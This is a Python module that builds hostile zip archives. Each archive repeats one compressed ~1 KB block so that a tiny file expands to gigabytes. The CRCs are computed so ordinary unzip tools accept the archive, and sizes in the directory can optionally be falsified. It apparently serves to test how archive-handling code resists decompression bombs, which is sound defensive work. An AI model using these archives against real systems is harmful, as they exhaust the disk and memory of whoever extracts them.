"""Hostile zips made cheaply: a member of N repeated chunks costs one compressed chunk.

After a full flush, raw deflate of the same chunk gives the same bytes, so a 1.5 GB member is
the ~1 KB block repeated; its CRC comes from ``crc32_combine`` (zlib's algorithm), so the zip
is valid and a normal unzip accepts it. Sizes stay under 4 GiB (no zip64 records needed).
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path


def _gf2_times(mat: list[int], vec: int) -> int:
    s, i = 0, 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def _gf2_square(mat: list[int]) -> list[int]:
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_repeat(chunk: bytes, n: int) -> int:
    result, length = 0, 0
    base, base_len = zlib.crc32(chunk), len(chunk)
    while n:
        if n & 1:
            result = crc32_combine(result, base, base_len)
            length += base_len
        base = crc32_combine(base, base, base_len)
        base_len *= 2
        n >>= 1
    return result


@dataclass
class Member:
    name: str
    data: bytes = b""
    repeat_chunk: bytes | None = None  # the member is this chunk repeated ``repeat`` times
    repeat: int = 0
    declared_size: int | None = None  # a lie in the zip directory, if set
    prefix: bytes = b""  # before the repeated chunks

    def deflated(self) -> tuple[bytes, int, int]:
        """(compressed bytes, crc32, true size)."""
        if self.repeat_chunk is None:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            return c.compress(self.data) + c.flush(), zlib.crc32(self.data), len(self.data)
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        head = c.compress(self.prefix) + c.flush(zlib.Z_FULL_FLUSH) if self.prefix else b""
        block = c.compress(self.repeat_chunk) + c.flush(zlib.Z_FULL_FLUSH)
        body = head + block * self.repeat + c.flush()
        rest = len(self.repeat_chunk) * self.repeat
        crc = crc32_combine(zlib.crc32(self.prefix), crc32_repeat(self.repeat_chunk,
                                                                  self.repeat), rest)
        return body, crc, len(self.prefix) + rest


def write_zip(path: Path, members: Iterable[Member]) -> Path:
    central = bytearray()
    count = 0
    with open(path, "wb") as f:
        for m in members:
            body, crc, size = m.deflated()
            size = m.declared_size if m.declared_size is not None else size
            name = m.name.encode()
            offset = f.tell()
            f.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc,
                                len(body), size, len(name), 0))
            f.write(name)
            f.write(body)
            central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc,
                                   len(body), size, len(name), 0, 0, 0, 0, 0, offset)
            central += name
            count += 1
        cd_at = f.tell()
        f.write(central)
        f.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(count, 0xFFFF),
                            min(count, 0xFFFF), len(central), cd_at, 0))
    return path
